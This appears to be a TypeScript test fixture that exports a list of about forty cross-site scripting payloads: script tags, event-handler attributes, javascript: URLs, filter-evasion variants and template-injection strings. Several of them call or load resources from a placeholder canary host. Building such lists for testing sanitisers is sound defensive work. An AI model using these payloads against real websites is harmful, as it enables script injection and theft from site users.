/** Reached only by a page that was tricked; the browser's own rules let nothing leave it either way. */
export const CANARY = 'canary.invalid'

const ACT = `alert(1);fetch('https://${CANARY}')`
const INLINE = `onerror="${ACT}"`

/** Texts that become markup, script or an address on a page that does not treat them as text. */
export const MARKUP_PAYLOADS: readonly string[] = [
  `<script>${ACT}</script>`,
  `"><script>${ACT}</script>`,
  `'><script>${ACT}</script>`,
  `</title><script>${ACT}</script>`,
  `</textarea><script>${ACT}</script>`,
  `</script><script>${ACT}</script>`,
  `<scr<script>ipt>${ACT}</scr</script>ipt>`,
  `<SCRIPT SRC=//${CANARY}/x.js></SCRIPT>`,
  `<img src=x ${INLINE}>`,
  `<img src=//${CANARY}/x.png>`,
  `"><img src=x ${INLINE}>`,
  `<img/src/${INLINE}>`,
  `<svg onload="${ACT}">`,
  `<svg><script>${ACT}</script></svg>`,
  `<svg><animate onbegin="${ACT}" attributeName=x dur=1s>`,
  `<math><mtext><img src=x ${INLINE}></mtext></math>`,
  `<body onload="${ACT}">`,
  `<input autofocus onfocus="${ACT}">`,
  `<details open ontoggle="${ACT}">`,
  `<video><source ${INLINE}></video>`,
  `<audio src=x ${INLINE}>`,
  `<iframe src="javascript:${ACT}"></iframe>`,
  `<iframe srcdoc="<script>${ACT}</script>"></iframe>`,
  `<object data="javascript:${ACT}"></object>`,
  `<embed src="//${CANARY}/x.swf">`,
  `<a href="javascript:${ACT}">click</a>`,
  `<form action="//${CANARY}"><button>Go</button></form>`,
  `<base href="//${CANARY}/">`,
  `<link rel=stylesheet href="//${CANARY}/x.css">`,
  `<style>@import "//${CANARY}/x.css"</style>`,
  `<meta http-equiv=refresh content="0;url=//${CANARY}">`,
  `<template><img src=x ${INLINE}></template>`,
  `<!--><img src=x ${INLINE}>-->`,
  `<![CDATA[<img src=x ${INLINE}>]]>`,
  `javascript:${ACT}//`,
  `data:text/html,<script>${ACT}</script>`,
  `\${${ACT}} {{constructor.constructor('${ACT}')()}}`,
  `\u001b]8;;javascript:${ACT}\u0007link\u001b]8;;\u0007`,
  `\u202e<img src=x ${INLINE}>\u2066`,
  `&lt;img src=x ${INLINE}&gt; &#60;script&#62;${ACT}&#60;/script&#62;`,
]
